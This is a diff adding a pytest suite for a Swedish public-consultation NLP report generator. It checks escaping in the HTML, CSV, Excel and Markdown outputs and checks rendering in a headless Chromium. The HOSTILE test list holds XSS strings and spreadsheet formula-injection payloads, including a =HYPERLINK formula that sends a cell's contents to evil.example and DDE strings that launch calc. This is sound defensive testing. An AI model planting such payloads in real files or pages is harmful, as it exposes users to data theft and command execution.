@@ -1,0 +1,495 @@
+"""Tests for nlp_varmland.report: HTML, CSV, Excel, Markdown and a real headless Chromium."""
+from __future__ import annotations
+
+import base64
+import csv
+import json
+import math
+import os
+import queue
+import re
+import shutil
+import subprocess
+import sys
+import threading
+import time
+from pathlib import Path
+from typing import Any
+
+import pandas as pd
+import pytest
+
+from nlp_varmland.report import render_html, summary_markdown, write_bundle, write_excel, write_tables
+from nlp_varmland.report.tables import REQUIRED
+
+# The same check as ../shared/check_contract.py: report.html must open offline.
+REMOTE = re.compile(r"""(?:src|href)\s*=\s*["'](https?:)?//[^"']+""")
+LONG_WORD = "Värmland" * 1250  # 10,000 characters, no spaces
+HOSTILE = [
+    "<script>alert(1)</script> bussen går för sällan",
+    '<img src=x onerror="alert(2)"> vi saknar sjuksköterskor',
+    '=HYPERLINK("http://evil.example/?q="&A1,"klicka här")',
+    "+cmd|' /C calc'!A0 kollektivtrafiken",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3 färre bussar",
+    "\tflik före text",
+    LONG_WORD,
+]
+
+
+def hostile(analysis):
+    """Put hostile text everywhere note text or names can reach the outputs."""
+    notes = analysis.notes
+    kept = notes.index[(notes["status"] == "kept") & (notes["theme_id"] == 0)][: len(HOSTILE)]
+    for i, text in zip(kept, HOSTILE):
+        notes.loc[i, "text"] = text
+        notes.loc[i, "text_clean"] = text
+    notes.loc[kept[0], "meeting"] = "<b>Möte</b> & <i>co</i>"
+    analysis.themes.at[0, "examples"] = HOSTILE[:3]
+    analysis.themes.at[1, "examples"] = [HOSTILE[3], HOSTILE[4], LONG_WORD]
+    analysis.themes.at[2, "label"] = "psykisk-ohälsa-" * 40  # a label with no spaces
+    analysis.themes.at[0, "label"] = "<script>alert('label')</script> – buss"
+    analysis.themes.at[0, "keywords"] = ["=1+1", "<u>buss</u>"]
+    analysis.themes.at[0, "goal_evidence"] = 'närmast: "<img src=x onerror=alert(3)>"'
+    analysis.goals.loc[analysis.goals["goal_id"] == "bostader", "name"] = "<em>Bostäder</em>"
+    analysis.messages.append("<script>alert('msg')</script>")
+    return analysis
+
+
+# ---------------------------------------------------------------------------- HTML
+
+
+def test_html_is_self_contained(fake_analysis):
+    html = render_html(fake_analysis)
+    assert html.startswith("<!DOCTYPE html>")
+    assert REMOTE.findall(html) == []
+    assert "<link" not in html and "@import" not in html and "url(" not in html
+    assert "default-src 'none'" in html  # CSP: even injected markup could load nothing
+    assert html.count("<script") == 1  # only our optional filter script
+
+
+def test_html_shows_every_section(fake_analysis):
+    html = render_html(fake_analysis)
+    for heading in ["Sammanfattning", "Täckning av strategins mål", "Teman", "Temakarta",
+                    "Teman × insatsområden", "Återkommande utmaningar", "Utveckling över möten",
+                    "Nya teman", "Datakvalitet", "Om körningen"]:
+        assert f">{heading}</h" in html, heading
+    assert html.count('class="gap-box"') == 4  # four sub-goals nobody raised
+    assert html.count('<article class="theme" id="tema-') == 6
+    assert "nyckelord: buss, turtäthet" in html  # goal evidence is shown
+    assert "Bussen går för sällan från Ekshärad" in html  # a representative quote
+    assert "klimatanpassning – skogsbrand – beredskap" in html.split('id="emerging"')[1]
+    assert "3 påståenden passade inget tema" in html  # analysis.messages
+    assert "intfloat/multilingual-e5-small" in html and "query: " in html  # provenance
+    assert html.count('class="chart trend"') == 6
+
+
+def test_html_escapes_hostile_notes(fake_analysis):
+    html = render_html(hostile(fake_analysis))
+    assert "<script>alert" not in html
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
+    assert "<img src=x" not in html and "&lt;img src=x onerror=" in html
+    assert "<b>Möte</b>" not in html and "&lt;b&gt;Möte&lt;/b&gt; &amp; &lt;i&gt;co&lt;/i&gt;" in html
+    assert "<em>Bostäder</em>" not in html and "&lt;em&gt;Bostäder&lt;/em&gt;" in html
+    assert html.count("<script") == 1
+    assert LONG_WORD in html and "overflow-wrap: anywhere" in html
+    assert "=HYPERLINK(" in html  # shown as text, not neutralised away
+
+
+def test_english_switch(fake_analysis):
+    html = render_html(fake_analysis, lang="en")
+    assert '<html lang="en">' in html
+    for heading in ["Summary", "Coverage of the strategy goals", "Themes", "Theme map",
+                    "Recurring challenges", "Emerging themes", "Data quality", "About this run"]:
+        assert f">{heading}</h" in html, heading
+    assert "Sammanfattning" not in html
+    md = summary_markdown(fake_analysis, lang="en")
+    assert md.startswith("# Summary") and "## Recurring challenges" in md
+
+
+def test_unknown_language_is_refused(fake_analysis):
+    with pytest.raises(ValueError, match="sv, en"):
+        render_html(fake_analysis, lang="de")
+
+
+def _zero_themes(a):
+    a.notes["theme_id"] = -1
+    a.notes["theme_label"] = ""
+    a.themes = a.themes.iloc[0:0]
+    a.recurring = a.recurring.iloc[0:0]
+    a.trend = a.trend.iloc[0:0]
+    a.messages = ["För få påståenden för att bilda teman."]
+    return a
+
+
+def _one_statement(a):
+    a.notes = a.notes.iloc[[0]].copy()
+    a.themes = a.themes.iloc[0:0]
+    a.notes["theme_id"] = -1
+    a.recurring = a.recurring.iloc[0:0]
+    a.trend = a.trend.iloc[0:0]
+    a.run["counts"] = {"rows": 1}
+    return a
+
+
+def _no_recurring(a):
+    a.recurring = pd.DataFrame(columns=REQUIRED["recurring"])
+    a.trend = pd.DataFrame(columns=["theme_id", "meeting", "date", "n_notes"])
+    a.themes["recurring"] = False
+    return a
+
+
+def _nan_coordinates(a):
+    a.notes["x"] = float("nan")
+    a.notes["y"] = float("nan")
+    return a
+
+
+def _empty(a):
+    a.notes = a.notes.iloc[0:0]
+    a.themes = a.themes.iloc[0:0]
+    a.goals = pd.DataFrame()
+    a.recurring = pd.DataFrame()
+    a.trend = pd.DataFrame()
+    a.run = {}
+    a.messages = []
+    return a
+
+
+DEGENERATE = {"zero_themes": _zero_themes, "one_statement": _one_statement,
+              "no_recurring_no_trend": _no_recurring, "nan_coordinates": _nan_coordinates,
+              "empty": _empty}
+
+
+@pytest.mark.parametrize("lang", ["sv", "en"])
+@pytest.mark.parametrize("case", sorted(DEGENERATE))
+def test_degenerate_analyses_render(fake_analysis, tmp_path, case, lang):
+    a = DEGENERATE[case](fake_analysis)
+    html = render_html(a, lang=lang)
+    assert "</html>" in html and REMOTE.findall(html) == []
+    md = summary_markdown(a, lang=lang)
+    assert md.startswith("# ")
+    paths = write_bundle(a, tmp_path, lang=lang)
+    assert all(p.is_file() for p in paths.values())
+    if case in {"zero_themes", "one_statement"}:
+        assert "Inga teman kunde bildas" in html or "No themes could be formed" in html
+    if case == "zero_themes":
+        assert "För få påståenden för att bilda teman." in html
+    if case == "nan_coordinates":
+        assert 'class="chart scatter"' not in html
+        assert ("Ingen karta" in html) or ("No map" in html)
+    if case == "no_recurring_no_trend":
+        assert 'class="chart trend"' not in html
+
+
+# ---------------------------------------------------------------------------- CSV
+
+
+def read_csv(path: Path) -> tuple[list[str], list[dict[str, str]]]:
+    with path.open(encoding="utf-8", newline="") as fh:
+        reader = csv.DictReader(fh)
+        return list(reader.fieldnames or []), list(reader)
+
+
+def _is_number(s: str) -> bool:
+    try:
+        float(s)
+    except ValueError:
+        return False
+    return True
+
+
+def test_write_tables_columns_and_joins(fake_analysis, tmp_path):
+    paths = write_tables(fake_analysis, tmp_path)
+    assert sorted(paths) == ["goals.csv", "notes.csv", "recurring.csv", "themes.csv"]
+    for name, cols in REQUIRED.items():
+        header, rows = read_csv(tmp_path / f"{name}.csv")
+        assert header[: len(cols)] == cols, name
+    header, notes = read_csv(tmp_path / "notes.csv")
+    assert len(notes) == len(fake_analysis.notes)  # every statement, also the ones not analysed
+    assert "x" in header and "goal_evidence" in header  # extras follow the contract columns
+    not_kept = [r for r in notes if r["status"] != "kept"]
+    assert {r["theme_id"] for r in not_kept} == {"-1"} and {r["goal_id"] for r in not_kept} == {""}
+    _, themes = read_csv(tmp_path / "themes.csv")
+    assert themes[0]["keywords"] == "kollektivtrafik, landsbygd, buss, turtäthet"
+    assert themes[0]["examples"].count(" | ") == 2
+    assert themes[0]["meetings"] == "Arbetsmöte Karlstad; Arbetsmöte Torsby; Regional konferens Arvika"
+    _, goals = read_csv(tmp_path / "goals.csv")
+    assert {g["parent_id"] for g in goals if g["goal_id"] == "hoja-kompetensen"} == {""}
+
+
+def test_csv_cells_are_neutralised(fake_analysis, tmp_path):
+    write_tables(hostile(fake_analysis), tmp_path)
+    seen = set()
+    for name in REQUIRED:
+        _, rows = read_csv(tmp_path / f"{name}.csv")
+        for row in rows:
+            for col, cell in row.items():
+                if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}:
+                    assert _is_number(cell), (name, col, cell)  # e.g. theme_id -1
+                seen.add(cell)
+    assert "'" + HOSTILE[2] in seen and "'" + HOSTILE[3] in seen and "'" + HOSTILE[4] in seen
+    assert "'" + HOSTILE[5] in seen and "'" + HOSTILE[6] in seen
+    assert "'=1+1, <u>buss</u>" in seen  # joined keywords start with "=" too
+
+
+# ---------------------------------------------------------------------------- Excel
+
+
+def test_excel_has_no_formulas_and_frozen_header(fake_analysis, tmp_path):
+    from openpyxl import load_workbook
+
+    path = write_excel(hostile(fake_analysis), tmp_path / "tables.xlsx")
+    wb = load_workbook(path)
+    assert wb.sheetnames == ["notes", "themes", "goals", "recurring"]
+    texts = set()
+    for ws in wb.worksheets:
+        assert ws.freeze_panes == "A2"
+        assert ws.auto_filter.ref and ws.auto_filter.ref.startswith("A1:")
+        assert all(c.font.bold for c in ws[1])
+        header = [c.value for c in ws[1]]
+        assert header[: len(REQUIRED[ws.title])] == REQUIRED[ws.title]
+        for row in ws.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
+                if isinstance(cell.value, str):
+                    texts.add(cell.value)
+        assert all(8 <= (ws.column_dimensions[c].width or 0) <= 60
+                   for c in ws.column_dimensions if ws.column_dimensions[c].width)
+    assert HOSTILE[2] in texts  # kept verbatim, but as a string cell
+    notes = wb["notes"]
+    assert notes.max_row == len(fake_analysis.notes) + 1
+    ids = [c.value for c in notes["I"][1:]]  # theme_id is a number
+    assert all(isinstance(v, int) for v in ids) and -1 in ids
+
+
+# ---------------------------------------------------------------------------- Markdown
+
+
+def test_summary_markdown(fake_analysis):
+    md = summary_markdown(fake_analysis)
+    for heading in ["# Sammanfattning", "## Största teman", "## Återkommande utmaningar",
+                    "## Luckor: mål som ingen tog upp", "## Nya teman som strategin ännu inte namnger",
+                    "## Datakvalitet"]:
+        assert heading in md
+    assert "51 påståenden från 3 möten gav 6 teman" in md
+    assert "- Forskning och innovation (Stärka konkurrenskraften)" in md
+    assert "**klimatanpassning – skogsbrand – beredskap**" in md.split("## Nya teman")[1]
+    assert "dubbletter: 1" in md and "2 personuppgifter maskerades" in md
+
+
+def test_summary_markdown_escapes_note_text(fake_analysis):
+    md = summary_markdown(hostile(fake_analysis))
+    assert "<script>" not in md and "\\<script\\>" in md
+    assert all(len(line) < 1200 for line in md.splitlines())  # long quotes are shortened
+
+
+# ---------------------------------------------------------------------------- bundle
+
+
+def test_write_bundle_writes_every_file(fake_analysis, tmp_path):
+    paths = write_bundle(fake_analysis, tmp_path / "out")
+    assert sorted(paths) == ["goals.csv", "notes.csv", "recurring.csv", "report.html", "run.json",
+                             "summary.md", "tables.xlsx", "themes.csv"]
+    run = json.loads(paths["run.json"].read_text(encoding="utf-8"))
+    assert run["embedder"]["prefix"] == "query: " and run["seed"] == 42
+    assert "Värmland" in paths["report.html"].read_text(encoding="utf-8")
+
+
+def test_importing_report_stays_light():
+    code = ("import sys, nlp_varmland.report; "
+            "assert not {'jinja2', 'openpyxl'} & set(sys.modules), sorted(sys.modules)")
+    subprocess.run([sys.executable, "-c", code], check=True, cwd=Path(__file__).parents[1])
+
+
+# ---------------------------------------------------------------------------- Chromium
+
+
+def chromium_binary() -> str:
+    for name in ("chromium", "chromium-browser", "google-chrome", "google-chrome-stable"):
+        path = shutil.which(name)
+        if path:
+            return path
+    pytest.fail("headless Chromium is not installed: run `make test`, which installs it "
+                "(apt-get install -y chromium)")
+
+
+class Chromium:
+    """Headless Chromium driven over the DevTools protocol on a pipe (stdlib only).
+
+    ``--remote-debugging-pipe`` makes Chromium read commands on fd 3 and write replies and
+    events on fd 4, each message JSON terminated by NUL: no port, no websocket library.
+
+    >>> with Chromium(tmp) as c:                       # doctest: +SKIP
+    ...     page = c.open("file:///tmp/report.html")
+    """
+
+    def __init__(self, profile: Path, binary: str | None = None) -> None:
+        self.profile = profile
+        self.binary = binary or chromium_binary()
+        self.events: list[dict[str, Any]] = []
+        self._replies: queue.Queue[dict[str, Any]] = queue.Queue()
+        self._next = 0
+
+    def __enter__(self) -> Chromium:
+        to_child_r, self._to_child = os.pipe()
+        self._from_child, from_child_w = os.pipe()
+
+        def wire_fds() -> None:  # runs in the child before exec
+            a, b = os.dup(to_child_r), os.dup(from_child_w)
+            os.dup2(a, 3)
+            os.dup2(b, 4)
+
+        self.proc = subprocess.Popen(
+            [self.binary, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run",
+             "--disable-background-networking", "--disable-component-update", "--disable-sync",
+             "--disable-extensions", "--hide-scrollbars", "--mute-audio",
+             f"--user-data-dir={self.profile}", "--remote-debugging-pipe", "about:blank"],
+            stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
+            preexec_fn=wire_fds, pass_fds=(3, 4))
+        os.close(to_child_r)
+        os.close(from_child_w)
+        threading.Thread(target=self._read, daemon=True).start()
+        return self
+
+    def __exit__(self, *exc: object) -> None:
+        try:
+            self.send("Browser.close", timeout=5)
+        except Exception:  # noqa: BLE001 - closing is best effort, the process is killed below
+            pass
+        try:
+            self.proc.wait(timeout=10)
+        except subprocess.TimeoutExpired:
+            self.proc.kill()
+            self.proc.wait()
+        os.close(self._to_child)
+
+    def _read(self) -> None:
+        buf = b""
+        while True:
+            try:
+                chunk = os.read(self._from_child, 1 << 16)
+            except OSError:
+                chunk = b""
+            if not chunk:
+                self._replies.put({"_eof": True})
+                return
+            buf += chunk
+            while b"\0" in buf:
+                raw, buf = buf.split(b"\0", 1)
+                msg = json.loads(raw)
+                if "id" in msg:
+                    self._replies.put(msg)
+                else:
+                    self.events.append(msg)
+
+    def send(self, method: str, params: dict | None = None, session: str | None = None,
+             timeout: float = 20) -> dict[str, Any]:
+        self._next += 1
+        msg: dict[str, Any] = {"id": self._next, "method": method, "params": params or {}}
+        if session:
+            msg["sessionId"] = session
+        os.write(self._to_child, json.dumps(msg).encode() + b"\0")
+        deadline = time.monotonic() + timeout
+        while True:
+            reply = self._replies.get(timeout=max(0.01, deadline - time.monotonic()))
+            if reply.get("_eof"):
+                raise RuntimeError(f"Chromium closed the pipe during {method}")
+            if reply.get("id") == self._next:
+                if "error" in reply:
+                    raise RuntimeError(f"{method}: {reply['error']}")
+                return reply.get("result", {})
+
+    def wait_for(self, method: str, session: str, timeout: float = 20) -> dict[str, Any]:
+        deadline = time.monotonic() + timeout
+        while time.monotonic() < deadline:
+            for ev in self.events:
+                if ev.get("method") == method and ev.get("sessionId") == session:
+                    return ev
+            time.sleep(0.05)
+        raise TimeoutError(f"no {method} within {timeout} s")
+
+    def open(self, url: str, width: int = 1280, height: int = 900) -> str:
+        """Open ``url`` in a new tab, wait for the load event, return the session id."""
+        target = self.send("Target.createTarget", {"url": "about:blank"})["targetId"]
+        session = self.send("Target.attachToTarget", {"targetId": target, "flatten": True})["sessionId"]
+        for domain in ("Page", "Runtime", "Log"):
+            self.send(f"{domain}.enable", session=session)
+        self.send("Emulation.setDeviceMetricsOverride", {"width": width, "height": height,
+                  "deviceScaleFactor": 1, "mobile": False}, session=session)
+        self.send("Page.navigate", {"url": url}, session=session)
+        self.wait_for("Page.loadEventFired", session)
+        return session
+
+    def evaluate(self, session: str, expression: str) -> Any:
+        res = self.send("Runtime.evaluate", {"expression": expression, "returnByValue": True},
+                        session=session)
+        if "exceptionDetails" in res:
+            raise RuntimeError(res["exceptionDetails"])
+        return res["result"].get("value")
+
+    def screenshot(self, session: str, path: Path, width: int = 1280) -> Path:
+        """Full-page PNG."""
+        height = math.ceil(self.send("Page.getLayoutMetrics", session=session)["cssContentSize"]["height"])
+        shot = self.send("Page.captureScreenshot", {
+            "format": "png", "captureBeyondViewport": True,
+            "clip": {"x": 0, "y": 0, "width": width, "height": height, "scale": 1}}, session=session)
+        path.write_bytes(base64.b64decode(shot["data"]))
+        return path
+
+    def errors(self, session: str) -> list[str]:
+        """Console errors, uncaught exceptions, browser log errors (CSP, failed loads), dialogs."""
+        out = []
+        for ev in self.events:
+            if ev.get("sessionId") != session:
+                continue
+            m, p = ev.get("method"), ev.get("params", {})
+            if m == "Runtime.exceptionThrown":
+                out.append(f"exception: {p['exceptionDetails'].get('text')}")
+            elif m == "Runtime.consoleAPICalled" and p.get("type") in {"error", "assert", "warning"}:
+                out.append(f"console.{p['type']}: {[a.get('value') for a in p.get('args', [])]}")
+            elif m == "Log.entryAdded" and p["entry"].get("level") in {"error", "warning"}:
+                out.append(f"log {p['entry'].get('source')}: {p['entry'].get('text')}")
+            elif m == "Page.javascriptDialogOpening":
+                out.append(f"dialog: {p.get('message')}")
+        return out
+
+
+def test_report_in_headless_chromium(fake_analysis, tmp_path):
+    report = tmp_path / "report.html"
+    report.write_text(render_html(hostile(fake_analysis)), encoding="utf-8")
+    with Chromium(tmp_path / "profile") as browser:
+        session = browser.open(report.as_uri())
+        dom = browser.evaluate(session, """document.querySelector('details.statements').open = true,
+        JSON.stringify({
+            charts: document.querySelectorAll('svg.chart').length,
+            coverage: document.querySelectorAll('svg.coverage rect').length,
+            dots: document.querySelectorAll('svg.scatter circle.dot').length,
+            trend: document.querySelectorAll('svg.trend').length,
+            mapWidth: document.querySelector('svg.scatter').getBoundingClientRect().width,
+            filterShown: !document.getElementById('note-filter').hidden,
+            scrollWidth: document.documentElement.scrollWidth,
+            clientWidth: document.documentElement.clientWidth,
+            injected: document.querySelectorAll('main img, main script').length,
+            text: document.body.innerText.includes('<script>alert(1)</script>')
+        })""")
+        # Filter the statements table through the optional script.
+        filtered = browser.evaluate(session, """(() => {
+            const i = document.getElementById('note-filter');
+            i.value = 'torsby'; i.dispatchEvent(new Event('input'));
+            return [...document.querySelectorAll('#note-table tbody tr')].filter(r => !r.hidden).length;
+        })()""")
+        shot = browser.screenshot(session, tmp_path / "report.png")
+        errors = browser.errors(session)
+    info = json.loads(dom)
+    assert errors == []
+    assert info["charts"] >= 8 and info["coverage"] > 10 and info["trend"] == 6
+    assert info["dots"] == int((fake_analysis.notes["status"] == "kept").sum())
+    assert info["mapWidth"] > 500
+    assert info["filterShown"] and 0 < filtered < info["dots"]
+    assert info["injected"] == 0 and info["text"]  # hostile markup shows as text
+    assert info["scrollWidth"] <= info["clientWidth"]  # a 10,000-character word does not widen the page
+    data = shot.read_bytes()
+    assert data[:8] == b"\x89PNG\r\n\x1a\n" and len(data) > 50_000
+    width, height = int.from_bytes(data[16:20], "big"), int.from_bytes(data[20:24], "big")
+    assert width == 1280 and height > 3000
